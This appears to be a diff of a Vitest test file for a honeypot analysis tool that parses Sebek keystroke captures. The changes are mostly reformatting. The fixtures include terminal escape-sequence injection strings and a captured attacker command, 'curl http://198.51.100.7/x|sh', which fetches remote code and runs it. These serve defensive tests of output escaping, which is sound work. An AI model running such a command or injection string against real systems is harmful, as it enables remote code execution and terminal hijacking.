@@ -19,12 +19,12 @@ import { SebekStore } from '../src/sebek/store.js';
 const { main } = await import('../src/cli/main.js');
 
 let out = '';
-let err = '';
+let _err = '';
 beforeEach(() => {
   out = '';
-  err = '';
+  _err = '';
   vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => ((out += String(s)), true));
-  vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((err += String(s)), true));
+  vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((_err += String(s)), true));
 });
 afterEach(() => vi.restoreAllMocks());
 
@@ -38,7 +38,8 @@ const ESCAPED_COM = '\\x1b[2J\\x1b]0;p\\x07\\x9b\\x7f';
 
 function capture(records: SebekRecordInput[]): string {
   const frames = records.map((r, i) => ({
-    tsSec: 1_700_000_000 + i, tsUsec: 0,
+    tsSec: 1_700_000_000 + i,
+    tsUsec: 0,
     data: ethernet(sebekDatagram(encodeSebekRecord(r, MAGIC), { src: '10.0.0.5', dst: '10.0.0.1', id: i & 0xffff })),
   }));
   const file = join(dir, `c${Math.random().toString(36).slice(2)}.pcap`);
@@ -71,7 +72,11 @@ describe('Sebek text reaches no terminal raw', () => {
     const file = capture(hostileSession);
     expect(await main(['node', 'honeywall', 'sebek', file, '--magic', String(MAGIC), '--format', 'json'])).toBe(0);
     expect(out).not.toMatch(CONTROL);
-    const recs = out.trim().split('\n').map((l) => JSON.parse(l)).filter((o) => o.event_type === 'sebek_record');
+    const recs = out
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l))
+      .filter((o) => o.event_type === 'sebek_record');
     expect(recs[0].com).toBe(ESCAPED_COM);
     expect(recs[2].text).toBe('\\x1b[31mred\\x9b\\n');
     // the bytes themselves stay available, base64
@@ -87,7 +92,13 @@ describe('Sebek text reaches no terminal raw', () => {
       const r = d.prepare('SELECT com, com_raw FROM records ORDER BY id LIMIT 1').get() as { com: string; com_raw: Buffer };
       expect(r.com).toBe(ESCAPED_COM);
       expect(r.com_raw.toString('latin1')).toBe(HOSTILE_COM);
-      for (const [table, col] of [['processes', 'com'], ['processes', 'coms'], ['opens', 'path'], ['keystroke_lines', 'line'], ['keystroke_lines', 'com']]) {
+      for (const [table, col] of [
+        ['processes', 'com'],
+        ['processes', 'coms'],
+        ['opens', 'path'],
+        ['keystroke_lines', 'line'],
+        ['keystroke_lines', 'com'],
+      ]) {
         for (const row of d.prepare(`SELECT ${col} AS v FROM ${table}`).all() as { v: string }[]) expect(row.v).not.toMatch(CONTROL);
       }
       expect(d.prepare('SELECT line FROM keystroke_lines').all()).toEqual([{ line: 'curl http://198.51.100.7/x|sh' }]);
@@ -134,7 +145,11 @@ describe('keystrokes from multi-byte reads', () => {
       { ...base, type: 0, pid: 7, fd: 0, com: 'bash', data: text('id\r\nuname -x\x7fa\nwget ') },
       { ...base, type: 0, pid: 7, fd: 0, com: 'bash', data: text('h') },
     ]);
-    expect(lines.map((l) => [l.line, l.terminated])).toEqual([['id', true], ['uname -a', true], ['wget h', false]]);
+    expect(lines.map((l) => [l.line, l.terminated])).toEqual([
+      ['id', true],
+      ['uname -a', true],
+      ['wget h', false],
+    ]);
   });
 
   it('longer reads of other fds are files and sockets, not keystrokes (a 1-byte read still is)', () => {
@@ -148,7 +163,11 @@ describe('keystrokes from multi-byte reads', () => {
   it('a line is cut at its length limit, counted, and nothing is lost', () => {
     const s = new SebekSession({ maxLineChars: 10 });
     const events = s.add(captured({ ...base, type: 0, pid: 9, fd: 0, com: 'sh', data: text('0123456789abcdefghij0123\n') }));
-    expect(events.map((e) => e.kind === 'line' && [e.line.line, e.line.terminated])).toEqual([['0123456789', false], ['abcdefghij', false], ['0123', true]]);
+    expect(events.map((e) => e.kind === 'line' && [e.line.line, e.line.terminated])).toEqual([
+      ['0123456789', false],
+      ['abcdefghij', false],
+      ['0123', true],
+    ]);
     expect(s.stats.cutLines).toBe(2);
   });
 });
@@ -189,7 +208,8 @@ describe('per-process state is bounded', () => {
   it('the text view prints every process, evicted ones when they are let go', async () => {
     const records: SebekRecordInput[] = [];
     // odd pids leave a keystroke without a line end: its buffer is let go after its process, and still printed
-    for (let pid = 1; pid <= 17_000; pid++) records.push({ ...base, counter: pid, type: 0, pid, fd: 0, com: 'sh', data: text(pid % 2 ? 'x' : 'ls\n') });
+    for (let pid = 1; pid <= 17_000; pid++)
+      records.push({ ...base, counter: pid, type: 0, pid, fd: 0, com: 'sh', data: text(pid % 2 ? 'x' : 'ls\n') });
     const file = capture(records);
     expect(await main(['node', 'honeywall', 'sebek', file])).toBe(0);
     expect(out.match(/^10\.0\.0\.5 pid \d+ \(ppid/gm)).toHaveLength(17_000);
